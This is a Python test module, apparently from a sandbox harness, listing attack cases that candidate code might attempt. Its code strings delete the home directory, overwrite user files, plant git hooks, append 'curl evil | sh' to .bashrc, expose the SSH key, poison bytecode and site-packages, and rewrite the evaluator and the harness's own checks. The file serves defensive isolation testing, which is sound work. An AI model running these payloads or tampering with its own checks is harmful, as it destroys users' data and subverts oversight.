"""Attacks that destroy, change or plant: the user's files, git, the ledger, our own code."""

from tests.attacks.template import Attack

WRITES = (
    Attack(
        name="overwrite-users-file",
        attempts="overwrites the user's work",
        code="open('@WORKSPACE@/thesis.txt', 'w').write('gone')",
        shows="files",
    ),
    Attack(
        name="delete-users-files",
        attempts="deletes all of home and workspace that it can",
        code="""
        import shutil
        shutil.rmtree("@HOME@", ignore_errors=True)
        shutil.rmtree("@WORKSPACE@", ignore_errors=True)
        """,
        strikes="step in training",
        shows="files",
    ),
    Attack(
        name="move-git-ref",
        attempts="points the user's branch elsewhere",
        code="open('@WORKSPACE@/.git/refs/heads/main', 'w').write('0' * 40)",
        strikes="step in evaluation",
        shows="files",
    ),
    Attack(
        name="plant-git-hook",
        attempts="plants a hook and a filter that run at the user's next commit",
        code="""
        hook = "@WORKSPACE@/.git/hooks/pre-commit"
        os.makedirs(os.path.dirname(hook), exist_ok=True)
        open(hook, "w").write("#!/bin/sh")
        os.chmod(hook, 0o755)
        open("@WORKSPACE@/.git/config", "a").write("[core]\\n\\tfsmonitor = /tmp/x\\n")
        """,
        strikes="create_env",
        shows="files",
        is_long=True,
    ),
    Attack(
        name="change-ledger",
        attempts="rewrites the ledger's facts",
        code="""
        import sqlite3
        with sqlite3.connect("@LEDGER@") as ledger:
            ledger.execute("update facts set value = 'known'")
        """,
        strikes="build_policy",
        shows="files",
    ),
    Attack(
        name="append-to-bashrc",
        attempts="makes the user's next shell run its code",
        code="open(os.path.expanduser('@HOME@/.bashrc'), 'a').write('curl evil | sh')",
        strikes="forward",
        shows="files",
        is_long=True,
    ),
    Attack(
        name="delete-temp-files",
        attempts="deletes other programs' temporary files",
        code="os.remove('@TEMP@/draft.txt')",
        strikes="reset",
        shows="files",
        is_long=True,
    ),
    Attack(
        name="write-temp-file",
        attempts="leaves files in the shared temp folder",
        code="""
        open("@TEMP@/@MARK@", "w").write("x")
        open(os.path.join(tempfile.gettempdir(), "@MARK@"), "w").write("x")
        """,
        strikes="training_overrides",
        shows="files",
    ),
    Attack(
        name="plant-everywhere",
        attempts="leaves files in /tmp, /var/tmp, /dev/shm, /run and the queues",
        code="""
        for place in @PLANTED@:
            try:
                open(f"{place}/@MARK@", "w").write("x")
            except OSError as error:
                print(place, error)
        """,
        strikes="exit",
        copy="naive",
        shows="planted",
    ),
    Attack(
        name="change-evaluator",
        attempts="rewrites the workspace's framework.py",
        code="open('@WORKSPACE@/framework.py', 'a').write('\\nprint(1)\\n')",
        strikes="thread",
        shows="files",
        is_long=True,
    ),
    Attack(
        name="change-library",
        attempts="rewrites our packages where they were imported from",
        code="""
        import simverse.core.checks, referee.worker, sandbox.channel
        for module in (simverse.core.checks, referee.worker, sandbox.channel):
            if module.__file__.startswith("@LIVE@"):
                open(module.__file__, "a").write("\\n# mine\\n")
        """,
        shows="files",
    ),
    Attack(
        name="poison-bytecode",
        attempts="plants compiled code that the next process imports in place of the source",
        code="""
        import importlib.util, marshal, simverse.core.checks
        source = simverse.core.checks.__file__
        cached = importlib.util.cache_from_source(source)
        if source.startswith("@LIVE@"):
            os.makedirs(os.path.dirname(cached), exist_ok=True)
            status = os.stat(source)
            head = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(status.st_mtime), status.st_size)
            open(cached, "wb").write(head + marshal.dumps(compile("1/0", source, "exec")))
        """,
        strikes="import of train",
        shows="files",
        is_long=True,
    ),
    Attack(
        name="plant-in-site-packages",
        attempts="plants modules and .pth files where every Python looks",
        code="""
        for place in @SITES@:
            for ending in (".pth", ".py"):
                try:
                    open(f"{place}/@MARK@{ending}", "w").write("import os")
                except OSError as error:
                    print(place, error)
        """,
        shows="planted",
    ),
    Attack(
        name="change-own-source",
        attempts="rewrites its own file after it was read, for the next seed and for the record",
        code="""
        for name in ("env.py", "train.py"):
            for folder in (os.path.dirname(HERE), "@CANDIDATES@/1/candidate", "@CANDIDATES@/2/candidate"):
                try:
                    open(os.path.join(folder, name), "a").write("\\n# changed\\n")
                except OSError as error:
                    print(error)
        """,
        strikes="create_env",
        seeds=(101, 138),
        copy="naive",
        shows="files",
    ),
    Attack(
        name="swap-own-folder",
        attempts="puts a link to another folder in place of its own",
        code="""
        folder = os.path.dirname(HERE)
        os.rename(folder, folder + ".old")
        os.symlink("@WORKSPACE@/candidate", folder)
        """,
        strikes="step in training",
        copy="naive",
        shows="files",
        ends=("honest", "crash"),
    ),
    Attack(
        name="hostile-names",
        attempts="leaves files with newlines, dashes, control characters and no UTF-8 in the name",
        code="""
        for place in (b"@WORKSPACE@", b"@TEMP@", os.getcwdb(), os.path.dirname(HERE).encode()):
            for name in (b"-rf", b"a\\nb", b"\\xff\\xfe", b"\\x1b]0;x\\x07", b" ", b"x" * 255, b"@MARK@"):
                try:
                    open(os.path.join(place, name), "w").close()
                except OSError as error:
                    print(error.errno)
        """,
        shows="files",
    ),
    Attack(
        name="plant-symlink",
        attempts="plants links where the daemon will write next",
        code="""
        os.symlink("@HOME@/.bashrc", "@WORKSPACE@/results.tsv")
        os.symlink("@HOME@", "@WORKSPACE@/logs")
        """,
        strikes="build_policy",
        shows="files",
        is_long=True,
    ),
    Attack(
        name="plant-hardlink",
        attempts="links the ssh key to a place of its own",
        code="""
        for target in ("@TEMP@/key", os.path.join(os.getcwd(), "key"), "/tmp/@MARK@"):
            try:
                os.link("@HOME@/.ssh/id_ed25519", target)
            except OSError as error:
                print(error)
        """,
        strikes="forward in evaluation",
        shows="files",
    ),
    Attack(
        name="change-modes",
        attempts="makes the ssh key readable by all and changes times",
        code="""
        os.chmod("@HOME@/.ssh/id_ed25519", 0o666)
        os.utime("@WORKSPACE@/thesis.txt", (0, 0))
        """,
        shows="files",
        is_long=True,
    ),
    Attack(
        name="write-through-descriptor",
        attempts="writes to files that were left open for it",
        code="""
        for descriptor in range(3, 256):
            try:
                if os.readlink(f"/proc/self/fd/{descriptor}").startswith("@LIVE@"):
                    os.pwrite(descriptor, b"changed", 0)
            except OSError:
                pass
        """,
        copy="naive",
        shows="files",
    ),
    Attack(
        name="write-with-a-shell",
        attempts="has a shell do it",
        code="os.system('echo gone > @WORKSPACE@/thesis.txt')",
        strikes="reset",
        shows="files",
    ),
    Attack(
        name="run-own-program",
        attempts="writes a program of its own, on disk and in memory, and runs it",
        code="""
        source = b"#!/bin/sh\\necho gone > @WORKSPACE@/thesis.txt\\n"
        memory = call("memfd_create", b"x", 0)
        os.write(memory, source)
        own = os.path.join(tempfile.mkdtemp(), "own")
        open(own, "wb").write(source)
        os.chmod(own, 0o755)
        for path in (own, f"/proc/self/fd/{memory}"):
            pid = os.fork()
            if pid == 0:
                try:
                    os.execv(path, [path])
                finally:
                    os._exit(1)
            os.waitpid(pid, 0)
        """,
        shows="files",
    ),
    Attack(
        name="write-in-forked-child",
        attempts="lets a forked child do it",
        code="open('@WORKSPACE@/thesis.txt', 'w').write('gone')",
        strikes="forked child",
        shows="files",
        is_long=True,
    ),
)
